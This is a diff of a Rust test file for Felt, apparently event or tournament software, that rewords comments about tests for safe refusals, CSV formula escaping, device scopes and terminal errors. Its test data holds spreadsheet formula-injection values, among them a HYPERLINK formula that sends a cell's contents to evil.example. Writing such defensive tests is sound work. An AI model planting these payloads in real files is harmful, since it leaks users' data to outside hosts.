@@ -1,8 +1,7 @@
-//! Issue 31, never down during an event: each reported fault sent as it was found, at the
-//! door it was found at. A refused change changes nothing; what Felt writes cannot be
-//! turned against the TD (a spreadsheet formula, a log cut short, a file another user
-//! reads); the LAN is not trusted (scopes list what they allow, every answer carries the
-//! browser's guards).
+//! Never down during an event: each reported fault sent as it was found, at the door it was
+//! found at. A refused change changes nothing; what Felt writes cannot be turned against
+//! the TD (a spreadsheet formula, a log cut short, a file another user reads); the LAN is
+//! not trusted (scopes list what they allow, every answer carries the browser's guards).
 
 use crate::support;
 use felt::api::Felt;
@@ -56,7 +55,7 @@ fn a_refused_library_save_changes_nothing() {
     assert!(toml::from_str::<toml::Table>(&again).is_ok(), "{again}");
 }
 
-/// The names the issue sent, as a spreadsheet would read them.
+/// Player names a spreadsheet would read as formulas.
 const FORMULAS: [&str; 3] = [
     "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
     "@SUM(1+1)",
@@ -92,7 +91,7 @@ fn csv_cells_that_would_start_a_formula_are_written_as_text_and_read_back_unchan
         assert!(names.contains(&format!("'{f}")), "{f} in {results}");
     }
     assert!(names.contains(&"Ann".to_string()));
-    // The register: an import of the same names (a tab before one, as the issue sent
+    // The register: an import of the same names (a tab before one, as a reported file had
     // it: the reader trims it), the export, and the export imported again elsewhere.
     let t = Some(server.token.as_str());
     let csv_in = "name,club\n\"\t=1+1\",Reno\nZoë Ångström,'=club\n-2+3,Elko\n";
@@ -495,8 +494,8 @@ fn every_command_is_walked_against_every_device_scope() {
 }
 
 /// Errors a person can act on, at the terminal: the number that is wrong, in words a TD
-/// reads (issue 31 found "must be at least 1, got 3" for --advance 0 and a 309-digit
-/// number for --top-share 1e308), and a night's size limit.
+/// reads (not "must be at least 1, got 3" for --advance 0, nor a 309-digit number for
+/// --top-share 1e308), and a night's size limit.
 #[test]
 fn the_terminal_names_the_value_at_fault() {
     let dir = tempfile::tempdir().unwrap();
